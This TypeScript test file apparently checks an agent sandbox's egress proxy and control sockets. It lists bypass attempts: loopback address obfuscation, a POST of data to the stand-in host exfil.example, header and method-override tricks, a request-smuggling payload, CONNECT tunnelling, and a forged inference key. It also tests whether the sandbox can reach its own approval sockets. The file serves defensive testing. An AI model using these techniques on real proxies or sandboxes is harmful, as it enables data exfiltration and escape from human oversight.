/** Ways around, through and into the services of an instance, from inside; each judged by what arrived or changed. */
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import type { Checks } from '../harness/checks.ts';
import { run, type Instance, type Result } from '../harness/instance.ts';

interface Way {
  readonly title: string;
  /** For `sh -c` with $PORT (the service), $T (what must not arrive), $RUN (the instance's sockets). */
  readonly attempt: string;
  /** Works as a plain user without a sandbox; otherwise it only makes sense inside. */
  readonly plain: boolean;
  /** What it is told, so that it was refused for the reason that is meant. */
  readonly says: RegExp;
}

const curl = 'curl -sS -m 60';
const ways: readonly Way[] = [
  { title: 'by the address itself', attempt: `${curl} -d $T http://127.0.0.1:$PORT/`, plain: true, says: /Failed to connect/ },
  { title: 'by the address as one number', attempt: `${curl} -d $T http://2130706433:$PORT/`, plain: true, says: /Failed to connect/ },
  { title: 'by the address in hex', attempt: `${curl} -d $T http://0x7f000001:$PORT/`, plain: true, says: /Failed to connect/ },
  { title: 'by the name localhost', attempt: `${curl} -d $T http://localhost:$PORT/`, plain: true, says: /Failed to connect/ },
  { title: 'by the address mapped into IPv6', attempt: `python3 -c "import socket; s=socket.create_connection(('::ffff:127.0.0.1',$PORT),30); s.sendall(b'POST /$T HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\n\\r\\n'); print(s.recv(99))"`, plain: true, says: /ConnectionRefused/ },
  { title: 'by a raw socket and no proxy variables', attempt: `env -i /usr/bin/python3 -c "import socket; s=socket.create_connection(('127.0.0.1',$PORT),30); s.sendall(b'GET /$T HTTP/1.1\\r\\nHost: office.example\\r\\n\\r\\n'); print(s.recv(99))"`, plain: true, says: /ConnectionRefused/ },
  { title: 'by another address that the proxy captures', attempt: `${curl} -d $T --connect-to ::198.51.100.7:$PORT http://office.example:$PORT/`, plain: false, says: /misdirected/ },
  { title: 'by a name that no rule allows', attempt: `${curl} -d $T http://exfil.example:$PORT/`, plain: false, says: /Could not resolve/ },
  { title: 'a denied host in the Host header', attempt: `${curl} -H 'Host: exfil.example' http://office.example:$PORT/$T`, plain: false, says: /misdirected/ },
  { title: 'a method that is not allowed', attempt: `${curl} -X DELETE http://office.example:$PORT/$T`, plain: false, says: /not for DELETE/ },
  { title: 'a method that no rule could name', attempt: `${curl} -X get http://office.example:$PORT/$T`, plain: false, says: /Empty reply/ },
  { title: 'an allowed method that says it is another', attempt: `${curl} -H 'X-HTTP-Method-Override: DELETE' http://office.example:$PORT/$T`, plain: false, says: /method-override/ },
  { title: 'an allowed method with a body', attempt: `${curl} -X GET -d $T http://office.example:$PORT/`, plain: false, says: /body-not-expected/ },
  { title: 'a second request behind the first (smuggled)', attempt: `python3 -c "import socket; s=socket.create_connection(('office.example',$PORT),30); s.sendall(b'GET /ok HTTP/1.1\\r\\nHost: office.example\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nPOST /$T HTTP/1.1\\r\\nHost: office.example\\r\\n\\r\\n'); print(s.recv(999))"`, plain: false, says: /400 Bad Request.*malformed/ },
  { title: 'an upgrade to a tunnel', attempt: `${curl} -H 'Connection: Upgrade' -H 'Upgrade: websocket' http://office.example:$PORT/$T`, plain: false, says: /proxy\.upgrade/ },
  { title: 'CONNECT to the address', attempt: `python3 -c "import socket; s=socket.create_connection(('office.example',$PORT),30); s.sendall(b'CONNECT 127.0.0.1:$PORT HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n'); s.recv(999); s.sendall(b'POST /$T HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); print(s.recv(999))"`, plain: false, says: /^b''/ },
  { title: 'an absolute address of another host', attempt: `python3 -c "import socket; s=socket.create_connection(('office.example',$PORT),30); s.sendall(b'GET http://127.0.0.1:$PORT/$T HTTP/1.1\\r\\nHost: office.example\\r\\n\\r\\n'); print(s.recv(999))"`, plain: false, says: /421 Misdirected/ },
  { title: 'to the model with a forged key', attempt: `${curl} -H 'Authorization: Bearer forged' -H 'Content-Type: application/json' -d '{"model":"willing","messages":[{"role":"user","content":"'$T'"}]}' http://inference.local/v1/chat/completions`, plain: false, says: /router\.key/ },
];

/** Tries each way; `got` is everything that arrived at the service and at the model. */
export async function pastTheProxy(check: Checks, port: number, got: () => string, inside: (...argv: string[]) => Promise<Result>): Promise<void> {
  check.section('ways past the proxy, judged by what arrived');
  for (const { title, attempt, plain, says } of ways) {
    const script = (token: string): string => `PORT=${port} T=${token}; export PORT T; ${attempt}`;
    const free = randomBytes(8).toString('hex');
    let real = true;
    if (plain) {
      await run('/usr/bin/setpriv', ['--reuid', '65533', '--regid', '65533', '--clear-groups', '/bin/sh', '-c', script(free)], { env: { PATH: '/usr/bin:/bin' }, timeoutMs: 60_000 });
      real = got().includes(free);
    }
    const token = randomBytes(8).toString('hex');
    const result = await inside('/bin/sh', '-c', script(token));
    check.that(`${title}${plain ? ' (works without a sandbox)' : ''}: nothing arrives`, real && !got().includes(token) && says.test(result.out + result.err), { real, said: result.out + result.err });
  }
}

/** The doors of the instance itself: not in any view, and closed to a sandbox's uid even where they can be seen. */
export async function ownDoors(check: Checks, instance: Instance, inside: (...argv: string[]) => Promise<Result>): Promise<void> {
  check.section('approving itself');
  const knock = (path: string): string => `import socket; s=socket.socket(socket.AF_UNIX); s.connect("${path}"); s.sendall(b"GET /v1/approvals HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"); print(s.recv(300).decode())`;
  for (const name of ['gateway.sock', 'register.sock', 'openshelld/openshelld.sock']) {
    const path = join(instance.runDir, name);
    const within = await inside('/usr/bin/python3', '-c', knock(path));
    check.that(`${name}: not there for the sandbox`, within.code !== 0 && /FileNotFoundError/.test(within.out + within.err), within.out + within.err);
    const uid = Number((await inside('/bin/sh', '-c', 'id -u')).out.trim());
    const seen = spawnSync('/usr/bin/python3', ['-c', knock(path)], { uid, gid: uid, encoding: 'utf8' });
    check.that(`${name}: nor for its uid outside`, uid > 1000 && (seen.status !== 0 || /^HTTP\/1\.1 40[13]/.test(seen.stdout)), { uid, said: seen.stdout + seen.stderr });
  }
}
